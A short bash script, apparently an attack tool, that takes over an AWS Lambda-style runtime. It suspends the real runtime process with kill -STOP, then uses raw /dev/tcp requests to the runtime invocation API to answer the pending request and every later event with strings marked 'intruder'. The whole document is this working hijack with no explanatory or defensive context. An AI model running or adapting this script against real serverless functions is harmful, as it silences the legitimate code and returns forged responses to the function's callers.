# switch.sh PID HOST PORT REQUEST: takes the place of the runtime PID. Stops it, answers its request, and from then on asks for events and answers them.
call() { # method path body: sets id
  exec 3<>"/dev/tcp/$host/$port" || return 1
  printf '%s /2018-06-01/runtime/invocation/%s HTTP/1.1\r\nHost: %s\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "$1" "$2" "$host:$port" "${#3}" "$3" >&3
  id= status=
  IFS= read -r -u 3 status
  while IFS= read -r -u 3 line && [ -n "${line%$'\r'}" ]; do
    case ${line,,} in lambda-runtime-aws-request-id:*) id=${line#*: } id=${id%$'\r'} ;; esac
  done
  exec 3<&- 3>&-
  case $status in *" 20"*) return 0 ;; *) return 1 ;; esac
}
host=$2 port=$3
kill -STOP "$1" || exit 1
call POST "$4/response" '"answered by the intruder"' || exit 1
while call GET next '' && [ -n "$id" ]; do
  call POST "$id/response" '"served by the intruder"' || exit 1
done
